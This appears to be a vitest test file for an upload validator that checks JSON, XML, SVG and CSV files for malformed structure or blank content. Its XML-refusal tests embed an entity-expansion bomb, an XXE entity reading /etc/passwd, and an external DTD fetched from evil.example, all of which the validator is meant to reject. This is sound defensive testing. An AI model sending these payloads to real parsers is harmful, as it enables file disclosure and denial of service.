import { describe, expect } from 'vitest';
import { test } from '@/lib/testing/send-file';

/** Longer than the pieces that are read at once, so that whatever comes behind it lies in another one. */
const LONG = 'x'.repeat(300_000);
const SVG = '<svg xmlns="http://www.w3.org/2000/svg">';
const PUBLIC = 'PUBLIC "-//W3C//DTD XHTML 1.0//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1.dtd"';

describe('JSON', () => {
  test.for([
    ...['{}', '[1, -0.5e+10, "\\u00e9\\n", true, false, null]', ' "text"\r\n', '0', 'null'],
    ...['\ufeff{"a":1}', `{"a":"${LONG}","b":["${LONG}"]}`, '['.repeat(5000) + ']'.repeat(5000)],
  ])('%# is stored', async (text, { send }) => {
    expect(await send('a.json', Buffer.from(text))).toBe('stored');
    expect(await send('a.geojson', Buffer.from(text))).toBe('stored');
  });

  test.for([
    ...['{"a":1,}', '[1,]', '[,1]', "{'a':1}", '{a:1}', '{"a" 1}', '[1 2]', '{"a":1}{"b":2}', '[}'],
    ...['01', '1e+x', '.5', '+1', 'NaN', 'tru!', '"\\x"', '"a\nb"', '// note\n1', 'Dear reader'],
    ...[`["${LONG}",]`, `["${LONG}"] x`, '<html></html>'],
  ])('%# is refused as malformed', async (text, { send }) => {
    expect(await send('a.json', Buffer.from(text))).toBe('structure: the JSON is malformed');
    expect(await send('a.json', Buffer.from(text), { corrupt: true })).toBe('stored');
  });

  test.for(['{"a":1', '[1', '"a', '{"a":', '[', 'tru', '1.', '-', `{"a":"${LONG}`])(
    '%# is refused as cut short',
    async (text, { send }) => {
      expect(await send('a.json', Buffer.from(text))).toBe('structure: the JSON ends too early');
    },
  );
});

describe('XML is stored', () => {
  const latin1 = '<?xml version="1.0" encoding="ISO-8859-1"?><a>Gr\xfc\xdfe</a>';
  const entities = '<!DOCTYPE a [<!ENTITY x "a &lt; &#38;"><!ENTITY y \'2\'>]>';

  test.for([
    [
      'with all that it may have',
      '<?xml version="1.0"?><!-- a --><a b="1"><c:d/>&amp;<![CDATA[<]]></a>',
    ],
    ['that is long', `<a><b>${LONG}</b><c d="${LONG}"/></a>`],
    ['with a byte order mark', '\ufeff<a/>'],
    ['that says UTF-16 and is not', '<?xml version="1.0" encoding="utf-16"?><a>ü</a>'],
    ['with entities that it declares', `${entities}<a b="&x;">&y;</a>`],
    ['with entities of a DTD that it names', `<!DOCTYPE html ${PUBLIC}><html>a&nbsp;b</html>`],
  ] as const)('%s', async ([, text], { send }) => {
    for (const name of ['a.xml', 'a.gpx'])
      expect(await send(name, Buffer.from(text))).toBe('stored');
  });

  test('in the encoding that it declares', async ({ send }) => {
    expect(await send('a.xml', Buffer.from(latin1, 'latin1'))).toBe('stored');
    expect(await send('a.xml', Buffer.from('\ufeff<a>ü</a>', 'utf16le'))).toBe('stored');
    const unknown = latin1.replace('ISO-8859-1', 'none');
    expect(await send('a.xml', Buffer.from(unknown, 'latin1'))).toBe(
      'structure: the encoding that it declares is unknown',
    );
  });
});

describe('XML is refused', () => {
  const malformed = (line: number) => `structure: the XML is malformed in line ${line}`;
  const bomb = '<!DOCTYPE a [<!ENTITY x "ha"><!ENTITY y "&x;&x;">]><a>&y;</a>';

  test.for([
    ['that ends too early', '<a>\n<b></b>', malformed(2)],
    ['whose tags cross', '<a><b></a></b>', malformed(1)],
    ['of two roots', '<a/>\n<b/>', malformed(2)],
    ['of no root', '<!-- nothing -->', malformed(1)],
    ['with an attribute twice', '<a b="1" b="2"/>', malformed(1)],
    ['with an attribute without quotes', '<a b=1/>', malformed(1)],
    ['with a bare ampersand', '<a>a & b</a>', malformed(1)],
    ['with an entity that nobody declares', '<a>&nbsp;</a>', malformed(1)],
    ['with a character that XML does not have', '<a>\u0001</a>', malformed(1)],
    ['that is a page', '<!doctype html><p>a<br>b</p>', malformed(1)],
    ['that is words', 'Dear reader', malformed(1)],
    ['that is cut short behind a long text', `<a>\n<b>${LONG}</b>`, malformed(2)],
    [
      'whose entities unfold to one another',
      bomb,
      'structure: entities of the XML lead to one another',
    ],
    [
      'with an entity that is a file of the server',
      '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
      'structure: an entity of the XML leads to another file',
    ],
    [
      'with a part of its DTD elsewhere',
      '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]><a/>',
      'structure: an entity of the XML leads to another file',
    ],
  ] as const)('%s', async ([, text, reason], { send }) => {
    expect(await send('a.xml', Buffer.from(text))).toBe(reason);
    expect(await send('a.xml', Buffer.from(text), { corrupt: true })).toBe('stored');
  });
});

describe('an SVG', () => {
  test.for([
    ['with a drawing', `${SVG}<path d="M0 0h9"/></svg>`],
    [
      'with a prefix',
      '<?xml version="1.0"?><s:svg xmlns:s="x"><s:g><s:text>a</s:text></s:g></s:svg>',
    ],
    [
      'as Illustrator writes it',
      `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/svg11.dtd" [<!ENTITY ns "http://ns.adobe.com/x/">]>${SVG.replace('>', ' xmlns:i="&ns;">')}<rect/></svg>`,
    ],
  ] as const)('%s is stored', async ([, text], { send }) => {
    expect(await send('a.svg', Buffer.from(text))).toBe('stored');
  });

  test.for([
    ['that ends too early', `${SVG}<path/>`, 'structure: the XML is malformed in line 1'],
    ['that is other XML', '<html><svg><path/></svg></html>', 'structure: the XML is no SVG'],
    ['that is words', 'svg', 'structure: the XML is malformed in line 1'],
  ] as const)('%s is refused', async ([, text, reason], { send }) => {
    expect(await send('a.svg', Buffer.from(text))).toBe(reason);
  });

  test.for([`${SVG}</svg>`, `${SVG}<title>a</title><defs><style>b</style></defs><g/></svg>`])(
    'without anything drawn is blank',
    async (text, { send }) => {
      expect(await send('a.svg', Buffer.from(text))).toBe('blank: nothing is drawn in the picture');
      expect(await send('a.svg', Buffer.from(text), { blank: true })).toBe('stored');
    },
  );
});

describe('CSV is stored', () => {
  test.for([
    ['with quotes', 'name,"town, country"\r\n"Ada ""A"" L","London\nUK"\r\n'],
    ['with rows of different length', 'a,b,c\n1\n1,2,3,4\n\n5,6'],
    ['with semicolons', '"name";"price"\n"Tea";"1,50"\n'],
    ['with tabs', '"name"\t"price"\n"Tea"\t"1,50"\n'],
    ['with spaces around quotes', 'a, "b, c" ,d\n1, "2" ,3'],
    ['with all kinds of line ends', '"a"\r"b"\n"c"\r\n"d"'],
    ['with a byte order mark', '\ufeff"a"\n"b"'],
    ['of one row of numbers', '1,2,3'],
    ['with a quote that lies across pieces', `a\n"${LONG}\n${LONG}""${LONG}"\n`],
  ] as const)('%s', async ([, text], { send }) => {
    expect(await send('a.csv', Buffer.from(text))).toBe('stored');
  });

  test('in UTF-16', async ({ send }) => {
    expect(await send('a.csv', Buffer.from('\ufeff"a"\n"ü"', 'utf16le'))).toBe('stored');
  });
});

describe('CSV is refused', () => {
  const misplaced = (line: number) => `structure: a quote in the CSV is misplaced in line ${line}`;
  const open = 'structure: a quote in the CSV is never closed';

  test.for([
    ['whose last quote is not closed', 'a,b\n1,"2', open],
    ['whose quote is not closed before the end of a long file', `a\n"${LONG}\n${LONG}`, open],
    ['with words behind a quote', 'a,b\n"1"x,2', misplaced(2)],
    ['with a quote inside a bare field', 'a,b\n1,2\n5" pipe,1', misplaced(3)],
    ['with quotes behind backslashes', '"a \\"b\\" c"\n', misplaced(1)],
  ] as const)('%s', async ([, text, reason], { send }) => {
    expect(await send('a.csv', Buffer.from(text))).toBe(reason);
    expect(await send('a.csv', Buffer.from(text), { corrupt: true })).toBe('stored');
  });
});

describe('a table of headers alone is blank', () => {
  test.for([
    ['a.csv', 'id,name,e-mail\r\n'],
    ['a.csv', 'id;name;e-mail'],
    ['a.csv', '\n"id"\n,,\n  ,\t\n'],
    ['a.tsv', 'id\tname\te-mail\n'],
  ] as const)('%s %j', async ([name, text], { send }) => {
    expect(await send(name, Buffer.from(text))).toBe('blank: the table has headers and no rows');
    expect(await send(name, Buffer.from(text), { blank: true })).toBe('stored');
  });
});

test('in TSV a quote is a letter like any other', async ({ send }) => {
  expect(await send('a.tsv', Buffer.from('size\tname\n5"\t"pipe'))).toBe('stored');
});

test('lines of JSON are text, and by no name has text to be anything', async ({ send }) => {
  expect(await send('a.jsonl', Buffer.from('{"a":1}\n{"a":2}\n'))).toBe('stored');
  expect(await send('a.txt', Buffer.from('{"a":<b>"'))).toBe('stored');
});
